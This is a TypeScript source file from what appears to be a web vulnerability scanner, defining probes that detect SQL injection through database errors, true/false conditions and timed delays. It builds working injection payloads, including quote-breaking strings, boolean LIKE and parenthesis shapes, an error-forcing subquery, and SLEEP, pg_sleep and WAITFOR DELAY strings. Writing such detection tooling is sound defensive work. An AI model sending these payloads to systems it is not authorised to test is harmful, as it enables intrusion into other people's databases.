import type { Exchange } from '../../core/evidence/http.ts';
import { type BooleanSyntax, bare, double, type Shape, single, syntax } from '../kit/boolean-payloads.ts';
import type { DelaySyntax } from '../kit/delay-proof.ts';
import type { Injector } from '../kit/injector.ts';
import { probeBoolean } from '../kit/probe-boolean.ts';
import { defineProbe, PROVEN_QUERY, PROVEN_TARGET } from '../kit/probe-definition.ts';
import { probeDelay } from '../kit/probe-delay.ts';
import { type MarkedResponse, quotedValue } from '../kit/reflection.ts';
import { isUnquotedLiteral, sqlFailure, sumOf, unknownColumn } from './sql-errors.ts';
import { activeSqliBoolean } from './sqli-boolean.ts';
import { activeSqliError } from './sqli-error.ts';
import { activeSqliTime } from './sqli-time.ts';

/** Controls to the quotes of the first look, if a database reports an error. */
export const sqlErrors = defineProbe({
  family: 'sqli',
  checks: [activeSqliError],
  needs: ['quoted'],
  cost: 0,
  showsError: (text) => sqlFailure(text) !== null,
  async run(injector, { canary, letters, quoted }) {
    const isBroken = sqlFailure(quoted.exchange.response.text) !== null;
    const isColumn = letters !== null && unknownColumn(letters.exchange.response.text, canary) !== null;
    if (isBroken || (isColumn && isUnquotedLiteral(injector.point.baseline)))
      await sendControls(injector, canary, letters, quoted, isBroken, isColumn);
  },
});

interface Control {
  readonly step: string;
  readonly payload: string;
  readonly exchange: Exchange;
}

/** @param word the letters that were sent first */
async function sendControls(
  injector: Injector,
  word: string,
  letters: MarkedResponse | null,
  quoted: MarkedResponse,
  isBroken: boolean,
  isColumn: boolean,
): Promise<void> {
  const { baseline: example } = injector.point;
  const send = async (step: string, payload: string, sent = payload): Promise<Control | null> => {
    const exchange = await injector.send(sent);
    return exchange === null ? null : { step, payload, exchange };
  };
  const doubled = isColumn ? null : await send('two-quotes', `${example}''""${quoted.marker}`);
  const again = isBroken ? await send('quote-again', quotedValue(example, injector.token())) : null;
  const baseline = await send('baseline', example, example === '' ? '1' : example);
  if (baseline === null || (!isColumn && doubled === null) || (isBroken && again === null)) return;
  const difference = doubled !== null && sqlFailure(doubled.exchange.response.text) !== null ? sumOf(example) : null;
  const sum = difference === null ? null : await send('sum', difference);
  const quote = { step: 'quote', payload: quotedValue(example, quoted.marker), exchange: quoted.exchange };
  const plain = { step: 'letters', payload: word, exchange: (letters ?? baseline).exchange };
  for (const control of [quote, again, doubled, sum, baseline, plain])
    if (control !== null) injector.note('sqli', control.step, control.payload, word, control.exchange);
}

/** Contexts of SQL in a standard scan. */
const CONTEXTS = 3;

/** Equations behind a value on which the response depends. */
export const sqlConditions = defineProbe({
  family: 'sqli-boolean',
  checks: [activeSqliBoolean],
  unless: [...PROVEN_QUERY, ...PROVEN_TARGET],
  cost: 8,
  async run(injector, seen) {
    const steady = await seen.steady();
    if (steady === null || steady.endsAtQuotes) return;
    const syntaxes = sqlSyntaxes(steady.value);
    await probeBoolean(injector, 'sqli-boolean', steady, seen.scan.isThorough ? syntaxes : syntaxes.slice(0, CONTEXTS));
  },
});

/** Delays are for values that nothing in the response depends on, and are measured one at a time. */
export const sqlDelays = defineProbe({
  family: 'sqli-time',
  checks: [activeSqliTime],
  scanTypes: ['compliance'],
  unless: [...PROVEN_QUERY, ...PROVEN_TARGET],
  cost: 5,
  async run(injector, seen) {
    if ((await seen.steady()) !== null) return;
    await seen.scan.clock.run(() => probeDelay(injector, 'sqli-time', delaysFor(injector.point.baseline)));
  },
});

const like: Shape = (operator, one, other) => `%' ${operator} '${one}' LIKE '${other}`;
const closedSingle: Shape = (operator, one, other) => `') ${operator} ('${one}'='${other}`;
const closedBare: Shape = (operator, one, other) => `) ${operator} (${one}=${other}`;

/** A subquery of two rows in place of one value fails in MySQL, MariaDB, PostgreSQL and SQL Server; it reads no table. */
const failing = (one: number, other: number) => `(CASE WHEN ${one}=${other} THEN 1 ELSE (SELECT 1 UNION SELECT 2) END)`;
const bareFailing: Shape = (operator, one, other) => ` ${operator} 1=${failing(one, other)}`;
const singleFailing: Shape = (operator, one, other) => `' ${operator} 1=${failing(one, other)} AND '1'='1`;
const listFailing: Shape = (word, one, other) => `,${failing(one, other).replace('CASE', word)}`;

const sql = (context: string, shape: Shape, byError?: Shape): BooleanSyntax => ({
  ...syntax(context, 'AND', 'AMD', shape),
  ...(byError === undefined ? {} : { byError: syntax(`${context}, an error`, 'AND', 'AMD', byError) }),
});
const SQL_BARE = sql('a number', bare, bareFailing);
const SQL_SINGLE = sql('single quotes', single, singleFailing);
const SQL_DOUBLE = sql('double quotes', double);
const SQL_LIKE = sql('a LIKE pattern', like);
const SQL_CLOSED_SINGLE = sql('quotes and a parenthesis', closedSingle);
const SQL_CLOSED_BARE = sql('a number and a parenthesis', closedBare);

/** Columns to sort by, and lists. */
const SQL_LIST = syntax('a list', 'CASE', 'CASK', listFailing);

/** The contexts of a query to try, most frequent first: only `AND`, so that a query never selects more than the site's own. */
function sqlSyntaxes(example: string): readonly BooleanSyntax[] {
  if (/^-?\d+(?:\.\d+)?$/.test(example)) return [SQL_BARE, SQL_SINGLE, SQL_CLOSED_BARE, SQL_LIKE, SQL_DOUBLE, SQL_LIST];
  const texts = [SQL_SINGLE, SQL_LIKE, SQL_CLOSED_SINGLE, SQL_DOUBLE];
  // Without quotes a date is a difference, and a word the name of a column.
  if (IS_DATE.test(example)) return [...texts, SQL_BARE];
  return /^[a-z_]\w{0,60}$/i.test(example) ? [...texts, SQL_LIST] : texts;
}

/** A date that is valid without quotes. */
const IS_DATE = /^\d{4}-\d{1,2}-\d{1,2}$/;

const seconds = (value: number) => value.toFixed(1);

const mysql = (delay: number) => `(SELECT 1 FROM (SELECT SLEEP(${seconds(delay)}))sg)=1`;
const postgres = (delay: number) => `1=(SELECT 1 FROM pg_sleep(${seconds(delay)}))`;

/**
 * Each evaluates at most once per query, whatever the number of rows: subqueries without a reference to the outer query. No statement
 * is cut off by a comment, because a program might change data by it.
 */
const OF_TEXT: readonly DelaySyntax[] = [
  { name: 'MySQL or MariaDB', suffix: (delay) => `' AND ${mysql(delay)} AND '1'='1` },
  { name: 'PostgreSQL', suffix: (delay) => `' AND ${postgres(delay)} AND '1'='1` },
];
const OF_NUMBERS: readonly DelaySyntax[] = [
  { name: 'MySQL or MariaDB', suffix: (delay) => ` AND ${mysql(delay)}` },
  { name: 'PostgreSQL', suffix: (delay) => ` AND ${postgres(delay)}` },
];
/** The closing quote of the program ends the time; a number needs no quote. */
const WAIT_IN_QUOTES: DelaySyntax = {
  name: 'Microsoft SQL Server',
  suffix: (delay) => `' WAITFOR DELAY '0:0:${seconds(delay)}`,
};
const WAIT: DelaySyntax = {
  name: 'Microsoft SQL Server',
  suffix: (delay) => ` WAITFOR DELAY '0:0:${seconds(delay)}'`,
};

/** The delays of the databases that have some, in the contexts that fit the value. */
function delaysFor(example: string): readonly DelaySyntax[] {
  if (/^-?\d+$/.test(example)) return [...OF_NUMBERS, WAIT, ...OF_TEXT];
  return IS_DATE.test(example) ? [...OF_TEXT, ...OF_NUMBERS, WAIT_IN_QUOTES] : [...OF_TEXT, WAIT_IN_QUOTES];
}
